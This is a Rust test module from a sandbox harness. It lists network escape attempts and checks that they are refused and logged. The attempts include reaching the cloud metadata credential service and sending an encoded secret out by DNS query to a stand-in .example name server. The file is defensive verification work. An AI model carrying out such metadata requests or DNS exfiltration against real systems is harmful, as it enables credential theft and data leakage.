//! The attacks on promise N: what would reach something that the profile does not name.
#![forbid(unsafe_code)]

use std::net::{Ipv4Addr, SocketAddr};

use super::act::Act;
use super::attempt::{Holds, List};
use super::scene::Scene;
use crate::network::name::Name;
use crate::network::plan::{Allow, Network};
use crate::network::pool;
use crate::network::rule::{Decision, HTTPS, Host, Rules};

/// Nobody's (RFC 5737): if the sandbox does not hold, nobody is called. Whether it has held is told by
/// the log, which has everything that was refused.
const NOBODY: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 1);

/// The clouds' service for credentials, by its address and by Google's name.
const METADATA: Ipv4Addr = Ipv4Addr::new(169, 254, 169, 254);
const METADATA_NAME: &str = "metadata.google.internal";

const HTTP: u16 = 80;
const DNS: u16 = 53;

/// Everything of it that is tried in a scene.
pub(super) fn attempts(list: &mut List, scene: &Scene) {
    let open = Holds::NotPromised("the network is the host's");
    let own = scene.network != Network::Host;
    let endpoint = Act::Connect(scene.endpoint.clone());
    let loopback = if own { Holds::Refused } else { open.clone() };
    list.add("N", "connect to a service of the host", endpoint, loopback);
    let scoped = if own || scene.scoped { Holds::Refused } else { open };
    let socket = Act::Abstract(scene.name.clone());
    list.add("N", "connect to an abstract socket of the host", socket, scoped);
    match &scene.network {
        Network::Host => {}
        Network::None => {
            for (what, act) in outward(scene) {
                list.add("N", what, act, Holds::Refused);
            }
        }
        Network::Allow(allow) => unlisted(list, scene, allow),
    }
}

/// What leads to an address, for a network in which none is reached.
fn outward(scene: &Scene) -> [(&'static str, Act); 3] {
    let query = Act::Query { server: at(NOBODY, DNS), name: secret(scene) };
    [
        ("connect to an address of the internet", Act::Connect(at(NOBODY, HTTPS).to_string())),
        ("connect to the cloud's metadata service", Act::Connect(at(METADATA, HTTP).to_string())),
        ("send a secret to a name server elsewhere", query),
    ]
}

/// What no rule names.
fn unlisted(list: &mut List, scene: &Scene, allow: &Allow) {
    let gateway = pool::gateway(allow.pool);
    let port = scene.endpoint.rsplit(':').next().unwrap_or_default();
    let endpoint = Act::Connect(format!("{gateway}:{port}"));
    list.add("N", "connect to a service of the host by the gateway", endpoint, Holds::Refused);

    let name = format!("{}.example", scene.name);
    for (what, host, port) in [
        ("connect to a host that no rule names", &*name, HTTPS),
        ("connect to the metadata service by name", METADATA_NAME, HTTP),
    ] {
        let holds = told(&allow.rules, host, &[port]);
        list.add("N", what, Act::Connect(format!("{host}:{port}")), holds);
    }
    for (what, address, port) in [
        ("connect to an address that no rule names", NOBODY, HTTPS),
        ("connect to the cloud's metadata service", METADATA, HTTP),
    ] {
        let holds = told(&allow.rules, &address.to_string(), &[port]);
        list.add("N", what, Act::Connect(at(address, port).to_string()), holds);
    }
    for (what, server, name) in [
        ("send a secret out as a name", gateway, secret(scene)),
        ("send a secret to a name server elsewhere", NOBODY, format!("2-{}", secret(scene))),
    ] {
        let ports = Host::of(&name).map(|host| allow.rules.ports(&host)).unwrap_or_default();
        let holds = told(&allow.rules, &name, &ports);
        list.add("N", what, Act::Query { server: at(server, DNS), name }, holds);
    }
}

/// A name that carries something out, if anybody out there is asked for it.
fn secret(scene: &Scene) -> String {
    format!("c2VjcmV0.{}.example", scene.name)
}

fn at(address: Ipv4Addr, port: u16) -> SocketAddr {
    SocketAddr::from((address, port))
}

/// It is refused and the log tells of it, unless a rule of the user's says otherwise.
fn told(rules: &Rules, host: &str, ports: &[u16]) -> Holds {
    let allows = |host: &Host| {
        ports.iter().any(|port| matches!(rules.decide(host, *port), Decision::Allowed(_)))
    };
    match Host::of(host) {
        Some(target) if allows(&target) => Holds::NotPromised("a rule allows it"),
        _ => Holds::Told(host.to_owned()),
    }
}

impl Host {
    /// As an endpoint writes it.
    fn of(text: &str) -> Option<Self> {
        let name = || text.parse::<Name>().ok().map(Self::Name);
        text.parse().ok().map(Self::Address).or_else(name)
    }
}

#[cfg(test)]
mod tests {
    use super::super::list;
    use super::super::list::tests::{allowing, scene};
    use super::*;

    fn open(scene: &Scene) -> Vec<String> {
        let attempts = list::attempts(scene).into_iter();
        let open = attempts.filter(|attempt| matches!(attempt.holds, Holds::NotPromised(_)));
        open.map(|attempt| attempt.what).collect()
    }

    #[test]
    fn what_a_rule_allows_is_not_promised() {
        assert_eq!(open(&scene()), [""; 0]);
        let rules = ["*.n.example", "192.0.2.0/24", "metadata.google.internal:80"];
        let allowed = Scene { network: allowing(&rules), ..scene() };
        assert_eq!(
            open(&allowed),
            [
                "connect to the metadata service by name",
                "connect to an address that no rule names",
                "send a secret out as a name",
                "send a secret to a name server elsewhere",
            ]
        );
    }

    #[test]
    fn without_a_network_nothing_is_told_of() {
        let closed = Scene { network: Network::None, ..scene() };
        let attempts = list::attempts(&closed);
        assert!(!attempts.iter().any(|attempt| matches!(attempt.holds, Holds::Told(_))));
        assert!(attempts.iter().any(|attempt| matches!(attempt.act, Act::Query { .. })));
    }
}
